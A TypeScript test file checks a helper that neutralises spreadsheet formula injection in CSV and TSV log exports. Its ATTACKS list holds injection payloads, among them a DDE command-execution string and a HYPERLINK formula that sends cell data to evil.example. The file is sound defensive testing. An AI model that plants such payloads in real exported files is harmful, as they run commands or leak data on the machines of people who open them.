import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { excelSafe } from '../../src/loggers/excel-safe.ts'
import { analysis, log, row, span } from './records.ts'

const ATTACKS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
]

test.each(ATTACKS)('%j is text behind an apostrophe', (attack) => {
  expect(excelSafe(attack)).toBe(`'${attack}`)
})

test('other text stays as it is', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(excelSafe(`a${text}`)).toBe(`a${text}`)
    }),
  )
  for (const text of ['', 'eth0', '10.0.0.1', '::1', ' =1', '"=1"', "'=1"]) expect(excelSafe(text)).toBe(text)
})

describe('of cells', () => {
  const about = analysis({ columns: ['interface'] })
  const record = (name: string) => [span({ rows: [row([name], 5, 1000, -1)], other: null })]

  test.each(ATTACKS)('csv: %j, where asked for', (attack) => {
    // csv-stringify alone lets a carriage return stand.
    const quoted = (text: string, care = /[",\n]/) => (care.test(text) ? `"${text.replaceAll('"', '""')}"` : text)
    const line = log('csv', about, record(attack), { header: false, excelSafe: true })
    expect(line).toContain(`,5,${quoted(`'${attack}`, /[",\n\r]/)},5,1000,-1\n`)
    expect(log('csv', about, record(attack), { header: false })).toContain(`,5,${quoted(attack)},5,1000,-1\n`)
  })

  test('tsv', () => {
    const line = log('tsv', about, record('\t=1+1'), { header: false, excelSafe: true })
    expect(line).toContain("\t5\t'\\t=1+1\t5\t1000\t-1\n")
  })

  test('numbers are numbers', () => {
    const line = log('csv', analysis({ columns: ['src_port'] }), [span({ rows: [row([-5], -5, -1000, -1)] })], {
      header: false,
      excelSafe: true,
    })
    expect(line).toContain(',5,-5,-5,-1000,-1\n')
  })
})
